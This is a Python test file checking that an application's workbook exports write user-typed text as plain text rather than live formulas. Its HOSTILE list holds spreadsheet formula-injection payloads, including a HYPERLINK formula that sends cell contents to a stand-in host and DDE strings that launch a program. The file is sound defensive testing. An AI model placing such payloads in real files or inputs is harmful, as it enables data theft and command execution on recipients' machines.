"""Issue 12.1: text people typed is written into every workbook as text, never as a formula."""
from __future__ import annotations

import itertools
from io import BytesIO

import pytest
from openpyxl import load_workbook

from exports.agenda_workbook import build_agenda_workbook
from exports.case_workbook import build_case_template
from exports.programme import region_agenda
from exports.registry_workbook import build_registry_file
from exports.results_workbook import build_results_workbook
from kb.results import results_data
from web.score_files import scores_table_file, scoresheet_file
from exports.writeup_workbook import build_writeup_workbook, read_writeup_workbook
from kb.editions import case_list_choices, get_edition
from kb.models import Assignment, Case, CaseVersion, Category, Person, Stage, User
from kb.programme import region_programme
from kb.speakers import list_speakers
from kb.writeup_sheet import writeup_sheet

HOSTILE = ['=HYPERLINK("http://evil.example/?c="&A2,"看詳情")', "=cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_year(db):
    """民國103年 of the demo (judged and published) with every typed text made hostile."""
    from seeds.demo import load_demo

    load_demo(years=(103,), current_year=0)
    payloads = itertools.cycle(HOSTILE)
    for case in Case.select():
        case.title, case.agency = f"{next(payloads)}（{case.id}）", next(payloads)
        case.save()
    for version in CaseVersion.select():
        version.sections = {key: next(payloads) for key in version.sections}
        version.save()
    for person in Person.select():
        person.name, person.title, person.agency = next(payloads), next(payloads), next(payloads)
        person.save()
    for assignment in Assignment.select():
        assignment.comment = next(payloads)
        assignment.save()
    User.update(name=HOSTILE[0]).execute()
    edition = get_edition(103)
    Category.update(description=HOSTILE[1]).where(Category.edition == edition).execute()
    return 103


def exported_workbooks(year: int) -> dict[str, bytes]:
    stage = Stage.get(Stage.key == "screening")
    judge = Assignment.select().where(Assignment.stage == stage).first().judge.login
    region = get_edition(year).regions.first().name
    benchmark = Case.get(Case.status == "benchmark")
    return {
        "score sheet": scoresheet_file(year, "screening", judge),
        "score table": scores_table_file(year, "onsite"),
        "results": build_results_workbook(results_data(year)),
        "write-up": build_writeup_workbook(writeup_sheet(benchmark.id)),
        "registry": build_registry_file(list_speakers(with_contacts=True), "xlsx", with_contacts=True),
        "agenda": build_agenda_workbook(region_agenda(region_programme(year, region))),
        "case template": build_case_template(case_list_choices(get_edition(year))),
    }


def test_every_workbook_writes_hostile_text_as_text_and_reads_it_back(hostile_year):
    for name, data in exported_workbooks(hostile_year).items():
        workbook = load_workbook(BytesIO(data))
        formulas, hostile, texts = [], [], []
        for sheet in workbook.worksheets:
            for cell in itertools.chain.from_iterable(sheet.iter_rows()):
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                if cell.data_type == "f":
                    formulas.append(cell.value)
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    hostile.append(cell)
        # the score sheet's own total is the only formula we write
        assert all(value.startswith("=SUM(") for value in formulas), (name, formulas)
        if name != "case template":
            assert any(payload.strip() in text for payload in HOSTILE for text in texts), name
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile), name
        if name == "score sheet":  # our own total stays a formula
            assert len(formulas) == load_workbook(BytesIO(data))["評分表"].max_row - 1
    # text that looks like a formula reads back exactly as written
    benchmark = Case.get(Case.status == "benchmark")
    case_id, sections, _ = read_writeup_workbook(build_writeup_workbook(writeup_sheet(benchmark.id)))
    assert case_id == benchmark.id
    # (a spreadsheet file is XML, whose parsers read a lone carriage return as a line feed)
    assert set(sections.values()) <= {text.replace("\r", "\n") for text in HOSTILE} and sections
